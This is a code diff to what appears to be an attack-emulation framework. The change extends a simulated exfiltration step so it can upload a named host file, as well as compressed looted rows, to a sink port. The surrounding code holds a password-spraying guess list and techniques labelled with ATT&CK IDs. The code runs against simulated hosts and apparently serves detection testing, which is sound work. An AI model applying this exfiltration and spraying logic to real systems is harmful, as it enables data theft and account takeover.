@@ -7,14 +7,17 @@ import zlib
 
 from policies import AttackStep, Fidelity, Title
 
+from .archive import form_of
 from .exchange import EXCHANGE_PORT, SINK_PORT
 from .http import parse_response, request
 from .technique import Attacker, Play, Seen, Technique, number
-from .wire import Link
+from .wire import Link, NoAnswerError
 
 __all__ = ["EXCHANGE_TECHNIQUES"]
 
 _EVERYWHERE: frozenset[Fidelity] = frozenset({"memory", "loopback", "netns"})
+_ANY = "application/octet-stream"
+_KINDS = {"zip": "application/zip", "tar.gz": "application/gzip"}
 # Guesses of those who try one password on everyone before the next.
 _GUESSES = ("123456", "Admin@123", "Xian2026", "Aa123456", "Gov@2026")
 
@@ -92,11 +95,15 @@ def _administers(path: str) -> Play:
     return play
 
 
-async def _exfiltrate(attacker: Attacker, _step: AttackStep, target: str) -> None:
-    """All that is at hand, compressed, in one piece."""
-    packed = zlib.compress(b"\n".join(attacker.loot.get("rows", [])))
+async def _exfiltrate(attacker: Attacker, step: AttackStep, target: str) -> None:
+    """All that is at hand, compressed, in one piece; or a file of the host, as it is."""
+    name = str(step.parameters.get("file", ""))
+    if name and name not in attacker.disk:
+        raise NoAnswerError(f"there is no file {name}")
+    rows = attacker.loot.get("rows", [])
+    content = attacker.disk.read(name) if name else zlib.compress(b"\n".join(rows))
     link = await attacker.wire.open(attacker.address, target, SINK_PORT)
-    await _send(link, target, packed)
+    await _send(link, target, content, _KINDS.get(form_of(content), _ANY))
     await link.close()
 
 
@@ -113,8 +120,8 @@ async def _trickle(attacker: Attacker, step: AttackStep, target: str) -> None:
         await attacker.clock.sleep(number(step, "pause_s", 20) * attacker.random.uniform(0.7, 1.3))
 
 
-async def _send(link: Link, target: str, body: bytes) -> None:
-    await link.ask(request("POST", "/upload", target, body=body, kind="application/octet-stream"))
+async def _send(link: Link, target: str, body: bytes, kind: str = _ANY) -> None:
+    await link.ask(request("POST", "/upload", target, body=body, kind=kind))
 
 
 def _account_taken(_step: AttackStep, seen: Seen) -> bool:
@@ -156,7 +163,10 @@ EXCHANGE_TECHNIQUES = {
         _EVERYWHERE, _sign_in, _account_taken,
     ),
     "bulk-pull": Technique(
-        {"T1213": Title(zh="信息库数据", en="Data from Information Repositories")},
+        {
+            "T1213": Title(zh="信息库数据", en="Data from Information Repositories"),
+            "T1213.006": Title(zh="数据库", en="Databases"),
+        },
         _EVERYWHERE, _bulk_pull, _rows_taken,
     ),
     "exfiltrate": Technique(
